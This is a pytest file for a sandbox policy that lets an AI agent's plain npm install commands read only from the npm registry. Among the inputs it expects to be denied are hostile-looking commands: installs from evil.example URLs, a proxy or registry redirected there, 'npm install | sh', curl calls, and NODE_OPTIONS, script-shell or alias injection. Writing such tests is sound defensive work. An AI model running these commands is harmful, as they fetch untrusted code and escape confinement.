"""Calls that only install packages read from a registry; no other contained call does."""

from __future__ import annotations

import pytest

from gateway.model.call import RawCall
from gateway.model.plan import Endpoint
from gateway.policy.confine import Enforced, confinement, grants_of
from gateway.sandbox.network import network_of
from gateway.sandbox.profile import Profile

HELD = {"id": "held", "allow": {"effect": ["code", "opaque", "write", "delete", "connect"], "contained": True}}
NPM = {"settings": {"sandbox": {"registries": ["npm"]}}, "rules": [HELD]}


EVERY_NAME = "; ".join(f"npm {name}" for name in (
    "install", "i", "in", "ins", "inst", "add", "ci", "clean-install", "update", "up", "upgrade", "install-test", "it",
    "cit", "install-ci-test", "dedupe", "ddp", "run a", "run-script a", "rum a", "urn a", "test", "t", "tst",
))  # fmt: skip
EVERY_OPTION = (
    "npm i -D --save-dev -S --save -P --save-prod -O --save-optional --save-peer -E --save-exact --no-save -B"
    " --save-bundle --production --legacy-peer-deps --strict-peer-deps --no-audit --no-fund --no-progress"
    " --prefer-offline --prefer-online --ignore-scripts --package-lock-only --no-package-lock --no-optional --force -f"
    " --silent -s --quiet -q --verbose -d --json --no-color --workspaces --ws --include-workspace-root --dry-run"
    " --no-bin-links --no-update-notifier --omit dev --include=prod --loglevel silent --only=dev -w a --workspace a"
)


@pytest.fixture
def judged(guard):
    """The verdict on a text under a policy."""

    def judge(text: str, policy=NPM, **more):
        return guard({"user": policy}, **more).check(RawCall("Bash", {"command": text}), contains=lambda *_: "")

    return judge


@pytest.mark.parametrize(
    "text",
    [
        "npm install", "npm i", "npm ci", "npm install react", "npm install react@18.2.0 @types/node@^20 -D",
        "npm install 'react@>=18 <19'", "npm i --no-audit --no-fund --loglevel=error", "npm ci --omit dev",
        "npm update", "cd web && npm ci", "npm install 2>&1 | tail -5", "npm ci && npm test",
        "npm ci && npm run build -- --mode production", "npm i -w packages/a x", "mkdir web; cd web; npm i x",
        "npm test; npm install", "ls && npm install > log.txt; cat log.txt", "npm install-test",
        "npm run lint --silent && npm ci", EVERY_NAME, EVERY_OPTION,
    ],
)  # fmt: skip
def test_an_install_runs_contained_and_reads_from_its_registry(judged, text: str) -> None:
    verdict = judged(text)
    assert (verdict.decision.word, verdict.contained) == ("allow", True), verdict.reason
    grants = grants_of(verdict, {"registries": ["npm"], "hosts": ["wiki.example"], "inject": []})
    assert (grants.network, [each.host for each in grants.contacts]) == ("listed", ["registry.npmjs.org"])
    profile = Profile({"registries": ["npm"], "hosts": ["wiki.example"]}, {})
    network, _withheld = network_of(grants, profile, (), ())
    assert network.installer == "npm"
    assert network.allow == (Endpoint("registry.npmjs.org", 0, "sandbox", "read"),)
    bounded, _withheld = network_of(grants, Profile({"registries": ["npm"]}, {"said_kb": 2}), (), ())
    assert bounded == network.replace(said=2048)
    twin = judged(text, {"rules": [HELD]})
    assert (twin.decision.word, twin.contained) == ("ask", False)


@pytest.mark.parametrize(
    "text",
    [
        # Another shell, place, source, program or right
        "npm install --script-shell=./x", "npm install --script-shell ./x", "npm i --git=./x", "npm i -g x",
        "npm install --global x", "npm install --registry=https://evil.example/", "npm i --node-options=--require=./x",
        "npm install --location=global x", "npm install --prefix /srv/x x", "npm install --userconfig=./x",
        "npm i --before=2020-01-01", "npm i --no", "npm i --script-shel=./x", "npm install --cache ./x",
        "npm --script-shell=./x install", "npm install --https-proxy=http://evil.example/", "npm i -- x",
        # Packages from elsewhere
        "npm install ./dep", "npm install ../dep", "npm install git+https://evil.example/x",
        "npm install user/repository", "npm install https://evil.example/x.tgz", "npm install x@npm:y",
        "npm install x@git://evil.example/x",
        "npm install file:dep", "npm install x@file:dep", "npm install github:user/repository", "npm install $X",
        "npm i *",
        "npm install ~/x", "npm install -", "npm install @/x", "npm install x@user/repository",
        # Not npm, or not alone
        "./npm install", "npm_config_script_shell=./x npm install", "NODE_OPTIONS=--require=./x npm install",
        "export NODE_OPTIONS=x; npm install", "PATH=.:$PATH npm install", "bash -c 'npm install'",
        "sh x.sh; npm install",
        "npm install; node x.js", "node x.js & npm install", "npm install | sh", "npm install && python3 x.py",
        "npm install && curl https://registry.npmjs.org/secret", "npm ci; curl https://evil.example/",
        "npm exec x; npm ci",
        "npm install && npx x", "npm publish; npm install", "npm install && git push", "time ./x; npm ci",
        "npm install; $X", "eval npm install", "xargs npm install < x", "npm view x && npm install", "npm audit fix",
        "npm rebuild --script-shell=./x; npm i", "npm run --script-shell=./x a; npm ci", "npm run $(cat x); npm i",
        "npm install; npm run a --node-options=x",
    ],
)  # fmt: skip
def test_what_is_more_than_an_install_or_another_one_asks(judged, text: str) -> None:
    verdict = judged(text)
    assert (verdict.decision.word, verdict.contained) in (("ask", False), ("deny", False)), verdict.reason


@pytest.mark.parametrize(
    "text",
    [
        "python x.py", "npm run build", "./run.sh", "curl localhost:80", "npm() { ./x; }; npm install",
        "alias npm=./x; npm install", "function npm { ./x; }; npm ci",
    ],
)  # fmt: skip
def test_other_contained_calls_reach_no_registry(judged, text: str) -> None:
    verdict = judged(text)
    assert verdict.contained
    grants = grants_of(verdict, {"registries": ["npm"]})
    assert (grants.network, grants.contacts, grants.installer) == ("off", (), "")


def test_rules_on_hosts_are_asked_before(judged) -> None:
    for lane, decision in (("ask", "ask"), ("deny", "deny")):
        policy = {**NPM, "rules": [HELD, {"id": "no", lane: {"host": "registry.npmjs.org"}}]}
        assert judged("npm install", policy).decision.word == decision


@pytest.mark.parametrize("mode", ["plan", "read_only"])
def test_modes_that_write_nothing_install_nothing(judged, mode: str) -> None:
    verdict = judged("npm install", mode=mode)
    assert (verdict.decision.word, verdict.contained) == ("deny", False)


def test_a_demand_of_no_network_holds(judged) -> None:
    policy = {**NPM, "rules": [HELD, {"require": {"network": "off"}, "for": {"tool": "Bash"}}]}
    assert judged("npm install", policy).decision.word == "deny"


def test_the_plan_is_told_with_what_is_read(judged) -> None:
    said = confinement(judged("npm install"), Enforced(profile=(("registries", ["npm"]), ("hosts", ["wiki.example"]))))
    assert said.hosts == ("registry.npmjs.org (only read from, and by no package's script)",)
